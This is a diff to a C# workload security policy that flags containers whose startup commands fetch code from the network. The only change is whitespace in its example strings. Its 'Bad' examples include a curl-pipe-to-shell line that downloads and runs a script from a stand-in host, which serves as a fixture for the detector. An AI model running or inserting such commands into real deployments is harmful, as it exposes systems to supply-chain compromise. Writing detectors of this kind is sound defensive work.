@@ -14,8 +14,8 @@ internal sealed partial class CommandsFetchNoCode() : WorkloadPolicy(new PolicyI
     Threats = [Threat.SupplyChain],
     Controls = [Framework.Atlas("AML.T0010.001"), Framework.OwaspLlm("LLM04:2026"), Framework.OwaspLlm("LLM03:2025")],
     Remediation = "Put the program into the image.",
-    Good = ["""{ "containers": [{ "name": "a", "command": ["sh", "-c", "vllm serve /m"]}]}"""],
-    Bad = ["""{ "containers": [{ "name": "a", "command": ["sh", "-c", "curl -s https://a.example/i.sh | sh"]}]}""", """{ "containers": [{ "name": "a", "command": ["sh", "-c"], "args": ["pip install --upgrade x && run"]}]}"""],
+    Good = ["""{ "containers": [{ "name": "a", "command": ["sh", "-c", "vllm serve /m"] }] }"""],
+    Bad = ["""{ "containers": [{ "name": "a", "command": ["sh", "-c", "curl -s https://a.example/i.sh | sh"] }] }""", """{ "containers": [{ "name": "a", "command": ["sh", "-c"], "args": ["pip install --upgrade x && run"] }] }"""],
 })
 {
     public override IEnumerable<Finding> Check(PodSpec pod) =>
